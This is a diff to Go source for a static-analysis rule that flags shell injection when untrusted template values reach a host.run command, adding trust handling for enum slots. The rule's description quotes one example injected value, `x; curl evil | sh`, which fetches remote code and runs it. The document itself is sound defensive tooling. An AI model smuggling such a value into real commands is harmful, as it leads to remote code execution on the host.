@@ -10,7 +10,7 @@ import (
 )
 
 var ruleShellInjection = &Rule{ID: "shell-injection", Severity: diag.Warning, LintOnly: true,
-	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). The script a shell's -c runs in argv mode (cmd: bash, args: [-c, SCRIPT]) is checked the same way. Templates in env:, stdin: and cwd: are not checked",
+	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value; a world key as the import fold scopes it, so a child's declared key is its own): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). The script a shell's -c runs in argv mode (cmd: bash, args: [-c, SCRIPT]) is checked the same way. Templates in env:, stdin: and cwd: are not checked. A slot with values: read in its own intent's arc is trusted (a run refuses any other value), unless an emit_intent gives it a template; an integer, number or boolean slot is not (its type is checked only under run --strict)",
 	Example: "- invoke: host.run\n  with: {cmd: \"echo {{ slots.text }}\"}"}
 
 // checkShellInjection warns at each untrusted read inside the line a
@@ -111,7 +111,7 @@ func (c *checker) shellScalar(e *story.Effect, site effSite, how, fix, field, sr
 		if said[r.text] {
 			continue
 		}
-		what := c.untrusted(r)
+		what := c.untrusted(r, site.EffectPlace)
 		if what == "" {
 			continue
 		}
@@ -130,7 +130,10 @@ func (c *checker) shellScalar(e *story.Effect, site effSite, how, fix, field, sr
 // untrusted says where the value of an untrusted read comes from ("" for
 // a trusted one). A world read is untrusted when the folded key it names
 // is, in any place the story takes in the folded tree (foldScope).
-func (c *checker) untrusted(r tplRead) string {
+func (c *checker) untrusted(r tplRead, p *story.EffectPlace) string {
+	if r.root == "slots" {
+		return c.slotTrust(p, r)
+	}
 	if r.root != "world" {
 		return untrustedRoots[r.root]
 	}
@@ -207,7 +210,9 @@ type taintWrite struct {
 	key   string
 	reads []tplRead
 	keys  []string // reads[i]'s folded key (root world)
-	pos   story.Pos
+	// trusted: reads[i] (root slots) is an enum slot's value (slotTrust)
+	trusted []bool
+	pos     story.Pos
 }
 
 // runScalarData are host.run result fields that hold no text a command
@@ -230,7 +235,8 @@ func treeTaint(src *sources, st *story.Story) *taintedWorld {
 		tw.keys[k] = taint{why: why}
 	}
 	var writes []taintWrite
-	write := func(sc *foldScope, key string, v any, p story.Pos) {
+	emits := src.slotEmits(top)
+	write := func(sc *foldScope, place *story.EffectPlace, key string, v any, p story.Pos) {
 		var reads []tplRead
 		walkStrings(v, "", func(_, s string) {
 			if strings.Contains(s, "{") {
@@ -241,13 +247,16 @@ func treeTaint(src *sources, st *story.Story) *taintedWorld {
 		if k == "" || len(reads) == 0 {
 			return
 		}
-		keys := make([]string, len(reads))
+		keys, trusted := make([]string, len(reads)), make([]bool, len(reads))
 		for i, r := range reads {
-			if r.root == "world" {
+			switch r.root {
+			case "world":
 				keys[i] = sc.readKey(r)
+			case "slots":
+				trusted[i] = slotTrust(src.intentDecls(sc.st), place, r, emits) == ""
 			}
 		}
-		writes = append(writes, taintWrite{sc.key(k), reads, keys, p})
+		writes = append(writes, taintWrite{sc.key(k), reads, keys, trusted, p})
 	}
 	for _, s := range append([]*story.Story{top}, top.Children()...) {
 		scopes := tw.scopes[s]
@@ -269,7 +278,7 @@ func treeTaint(src *sources, st *story.Story) *taintedWorld {
 					}
 				}
 				for _, kv := range e.Set {
-					write(sc, kv.Key, kv.Value, kv.Pos)
+					write(sc, p, kv.Key, kv.Value, kv.Pos)
 				}
 			}
 		})
@@ -277,11 +286,11 @@ func treeTaint(src *sources, st *story.Story) *taintedWorld {
 			for _, alias := range s.ImportOrder {
 				im := s.Imports[alias]
 				for _, kv := range im.WorldIn {
-					write(sc, alias+"__"+kv.Key, kv.Value, kv.Pos)
+					write(sc, nil, alias+"__"+kv.Key, kv.Value, kv.Pos)
 				}
 				for _, en := range sortedMapKeys(im.Exits) {
 					for _, kv := range im.Exits[en].Set {
-						write(sc, kv.Key, kv.Value, kv.Pos)
+						write(sc, nil, kv.Key, kv.Value, kv.Pos)
 					}
 				}
 			}
@@ -309,6 +318,9 @@ func (tw *taintedWorld) derived(w taintWrite) (taint, bool) {
 	for i, r := range w.reads {
 		why := fmt.Sprintf("set from %s at %s", r.text, posText(w.pos))
 		if r.root != "world" {
+			if w.trusted[i] {
+				continue
+			}
 			return taint{why: why}, true
 		}
 		if src, ok := tw.keys[w.keys[i]]; ok {
